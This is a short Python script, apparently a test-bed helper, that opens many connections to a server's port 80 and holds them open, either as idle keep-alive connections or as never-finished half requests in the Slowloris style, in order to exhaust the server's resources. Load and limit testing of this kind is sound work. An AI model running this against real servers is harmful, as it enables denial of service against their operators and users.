#!/usr/bin/env python3
"""Holds many HTTP connections open to ADDR:80 from one client, as a resource exhaustion attempt.

usage: http_hold.py ADDR N MODE [SOURCE]

MODE idle: each connection sends a whole request for allowed.example, reads nginx's answer and
stays open (an idle keep-alive connection). MODE half: each sends the first half of a request
head and stays open (a request that never ends). SOURCE, if given, is the local address to send
from. Prints "ready N" once every connection is set up (for idle: every answer read), then holds
them until killed.
"""
import socket
import sys
import time

addr, n, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
source = sys.argv[4] if len(sys.argv) > 4 else None
fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
conns = []
for i in range(n):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if source:
        s.bind((source, 0))
    s.settimeout(10)
    s.connect((addr, 80))
    if mode == "idle":
        s.sendall(b"GET /idle/%d HTTP/1.1\r\nHost: allowed.example\r\n\r\n" % i)
        got = b""
        while b"by the test bed" not in got:
            chunk = s.recv(4096)
            if not chunk:
                raise SystemExit("connection %d closed before its answer" % i)
            got += chunk
    else:
        s.sendall(b"GET /half/%d HTTP/1.1\r\nHost: allo" % i)
    conns.append(s)
print("ready", len(conns), flush=True)
while True:
    time.sleep(60)
